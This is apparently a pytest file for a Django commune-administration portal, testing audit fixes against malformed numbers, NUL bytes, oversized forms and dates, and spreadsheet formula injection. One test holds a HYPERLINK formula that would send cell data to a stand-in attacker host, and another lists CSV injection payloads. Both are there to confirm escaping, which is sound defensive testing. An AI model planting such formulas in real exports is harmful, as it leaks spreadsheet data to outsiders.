"""Audit findings 3, 5, 9 and 10: what reaches the portal from outside (addresses, numbers,
form bodies, typed text going out again in exports) is refused or neutralised at the
edge, with a message people can act on; never a server error."""

import io
import json

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from communes.models import Commune, District, FacilityInvestment, GoodPractice, SteeringCommittee
from surveys.services import kiosk_link_ensure, questionnaire_create_default
from tests.conftest import DOI_NGO, LUC_NAM

pytestmark = pytest.mark.django_db

HOSTILE_YEARS = ["²", "2024²", "٢٠٢٤", "２０２４", "9" * 5000, "-2024", "20 24"]


# --- Finding 3: numeric parameters ------------------------------------------------------


@pytest.mark.parametrize("year", HOSTILE_YEARS)
def test_a_hostile_year_on_any_dashboard_gives_the_default_page_not_a_server_error(
    client_for, province_official, district_official, year
):
    province = client_for(province_official)
    for path in ("/", "/public/", f"/districts/{LUC_NAM}/", f"/communes/{DOI_NGO}/"):
        response = province.get(path, {"year": year})
        assert response.status_code == 200, path
    xlsx = province.get("/", {"year": year, "format": "xlsx"})
    assert xlsx.status_code == 200
    # A district official is sent to their dashboard: the year is dropped, not crashed on.
    district = client_for(district_official).get("/", {"year": year})
    assert district.status_code == 302
    assert district["Location"] == f"/districts/{LUC_NAM}/"


@pytest.mark.parametrize("year", HOSTILE_YEARS)
def test_recompute_with_a_hostile_year_redirects_without_a_server_error(
    client_for, province_official, year
):
    response = client_for(province_official).post(f"/recompute/?year={year}")
    assert response.status_code == 302
    assert response["Location"] == "/"


@pytest.mark.parametrize("year", HOSTILE_YEARS)
def test_the_api_answers_400_naming_the_year_for_a_hostile_year(
    client_for, province_official, year
):
    response = client_for(province_official).get("/api/v1/progress", {"year": year})
    assert response.status_code == 400
    assert response.json()["field"] == "year"


# --- Finding 5: NUL and other invalid characters -----------------------------------------


@pytest.mark.parametrize(
    "path",
    ["/s/%00/", "/s/%00/cam-on/", "/communes/%00/", "/communes/7444%00/", "/districts/%00/"],
)
def test_a_nul_byte_in_an_address_is_refused_with_400(client_for, province_official, path):
    response = client_for(province_official).get(path)
    assert response.status_code == 400
    assert "ký tự không hợp lệ" in response.content.decode()


def test_a_nul_byte_in_an_api_address_or_parameter_is_a_json_400(client_for, province_official):
    client = client_for(province_official)
    for response in (
        client.get("/api/v1/communes/%00"),
        client.get("/api/v1/progress", {"year": "20\x0024"}),
    ):
        assert response.status_code == 400
        assert "error" in response.json()


def test_a_nul_byte_in_a_form_field_is_refused_with_400(client_for, district_official):
    practice = GoodPractice.objects.create(code="thu-6", name="Thứ Sáu nhanh", description="x")
    response = client_for(district_official).post(
        f"/practices/{practice.code}/adopt/",
        {"commune": "1", "adopted_on": "05/01/2024", "note": "a\x00b"},
    )
    assert response.status_code == 400


# --- Finding 9: exported text is never a formula ----------------------------------------


def test_a_note_typed_as_a_formula_is_text_in_the_investment_workbook(
    client_for, province_official
):
    luc_nam = District.objects.get(code=LUC_NAM)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    FacilityInvestment.objects.create(
        district=luc_nam, year=2024, planned_vnd=5_000_000, spent_vnd=1_000_000, note=formula
    )
    response = client_for(province_official).get(
        f"/districts/{LUC_NAM}/investment/", {"format": "xlsx"}
    )
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    typed = [c for c in cells if c.value == formula]
    assert typed, "the note is exported as typed"
    assert all(c.data_type == "s" for c in typed)  # text, not a formula
    assert not [c for c in cells if c.data_type == "f"]
    assert 5_000_000 in [c.value for c in cells]  # numbers stay numbers


def test_a_commune_name_starting_with_a_formula_sign_is_escaped_in_the_csv(
    client_for, commune_staff
):
    Commune.objects.filter(code=DOI_NGO).update(name="=1+2")
    csv_text = (
        client_for(commune_staff)
        .get(f"/communes/{DOI_NGO}/surveys/export.csv")
        .content.decode("utf-8-sig")
    )
    assert "'=1+2" in csv_text
    assert ",=1+2" not in csv_text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5", "-5"),
        ("12,5", "12,5"),
        (-5, -5),
        ("Đồi Ngô", "Đồi Ngô"),
    ],
)
def test_csv_cells_are_escaped_as_owasp_advises_and_numbers_stay(value, written):
    from friendlygov.cells import csv_cell

    assert csv_cell(value) == written


# --- Finding 10: oversized forms, dates, caching, API errors, form statuses --------------


def test_a_form_body_over_the_limit_gets_a_vietnamese_message_not_a_bare_400(
    client_for, commune_staff
):
    response = client_for(commune_staff).post(
        f"/communes/{DOI_NGO}/committee/edit/",
        {"decision_number": "1/QĐ", "established_on": "05/01/2024", "note": "ả" * 3_000_000},
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert "Nội dung gửi lên quá lớn" in html
    assert "data-go-back" in html  # the button back to the form, whose text the page restores


def test_too_many_fields_get_a_vietnamese_message(client_for, commune_staff):
    data = {f"f{n}": "x" for n in range(1200)}
    response = client_for(commune_staff).post(f"/communes/{DOI_NGO}/committee/edit/", data)
    assert response.status_code == 400
    assert "quá nhiều trường" in response.content.decode()


def test_a_file_name_over_a_kilobyte_gets_a_message_about_the_name(client_for, commune_staff):
    # Built by hand: the test client's uploaded files cut their names to 255 characters,
    # a browser sends the name as it is.
    name = "ả" * 600 + ".csv"  # 1.8 KB in UTF-8: more than a part's headers may hold
    boundary = "----fg-boundary"
    body = (
        f"--{boundary}\r\n"
        f'Content-Disposition: form-data; name="file"; filename="{name}"\r\n'
        "Content-Type: text/csv\r\n\r\n"
        "commune_code\r\n"
        f"--{boundary}--\r\n"
    ).encode()
    response = client_for(commune_staff).generic(
        "POST",
        "/surveys/import/",
        body,
        content_type=f"multipart/form-data; boundary={boundary}",
    )
    assert response.status_code == 400
    assert "tên tệp quá dài" in response.content.decode()


def test_a_note_longer_than_allowed_is_refused_with_the_note_kept(client_for, commune_staff):
    note = "Ghi chú dài " + "x" * 5000
    response = client_for(commune_staff).post(
        f"/communes/{DOI_NGO}/committee/edit/",
        {"decision_number": "1/QĐ", "established_on": "05/01/2024", "note": note},
    )
    assert response.status_code == 400
    assert response.context["form"].errors["note"]
    assert note in response.content.decode()
    assert not SteeringCommittee.objects.exists()


@pytest.mark.parametrize("day", ["01/01/0001", "31/12/1899", "01/01/1999"])
def test_dates_before_the_programme_are_refused_for_committees_and_launches(
    client_for, commune_staff, day
):
    response = client_for(commune_staff).post(
        f"/communes/{DOI_NGO}/committee/edit/",
        {"decision_number": "1/QĐ", "established_on": day, "model_launched_on": day},
    )
    assert response.status_code == 400
    assert "quá xa: chỉ nhận từ 01/01/2000" in response.content.decode()
    assert not SteeringCommittee.objects.exists()
    assert Commune.objects.get(code=DOI_NGO).model_launched_on is None


def test_an_adoption_dated_01_01_0001_is_refused(client_for, district_official):
    practice = GoodPractice.objects.create(code="thu-6", name="Thứ Sáu nhanh", description="x")
    response = client_for(district_official).post(
        f"/practices/{practice.code}/adopt/",
        {"commune": Commune.objects.get(code=DOI_NGO).pk, "adopted_on": "01/01/0001"},
    )
    assert response.status_code == 400
    assert "quá xa" in response.content.decode()
    assert not practice.adoptions.exists()


def test_logged_in_pages_are_private_and_not_stored(client_for, province_official):
    response = client_for(province_official).get("/")
    cache_control = response["Cache-Control"]
    assert "private" in cache_control and "no-store" in cache_control


def test_the_public_page_stays_cacheable_for_anonymous_visitors(client):
    response = client.get("/public/")
    assert "no-store" not in response.get("Cache-Control", "")


def test_a_csrf_failure_on_the_api_answers_json(province_official):
    client = Client(enforce_csrf_checks=True)
    client.force_login(province_official)
    response = client.post("/api/v1/recompute", {"year": "2024"})
    assert response.status_code == 403
    assert response["Content-Type"].startswith("application/json")
    assert "CSRF" in json.loads(response.content)["error"]


def test_an_unknown_api_address_answers_json(client_for, province_official):
    response = client_for(province_official).get("/api/v1/nothing-here")
    assert response.status_code == 404
    assert response["Content-Type"].startswith("application/json")


def test_an_invalid_kiosk_answer_answers_400_with_the_form_shown_again(client):
    questionnaire_create_default()
    link = kiosk_link_ensure(commune=Commune.objects.get(code=DOI_NGO))
    response = client.post(reverse("survey_kiosk", args=[link.token]), {"stamp": "x"})
    assert response.status_code == 400
    assert 'name="stamp"' in response.content.decode()


@pytest.mark.parametrize("pk", ["²", "9" * 30, "9" * 5000, "-1"])
def test_marking_a_notification_read_takes_any_id(client_for, commune_staff, pk):
    response = client_for(commune_staff).post("/notifications/read/", {"pk": pk})
    assert response.status_code == 302


def test_an_admin_form_sent_back_with_a_bad_autocomplete_value_is_shown_again(
    client_for, admin_user
):
    client = client_for(admin_user)
    assert client.get("/admin/communes/facilityinvestment/add/?commune=²").status_code == 200
    response = client.post(
        "/admin/communes/facilityinvestment/add/", {"year": "²", "commune": "²", "district": "²"}
    )
    assert response.status_code == 200  # the admin's own refusal, with its errors
    assert response.context["adminform"].form.errors
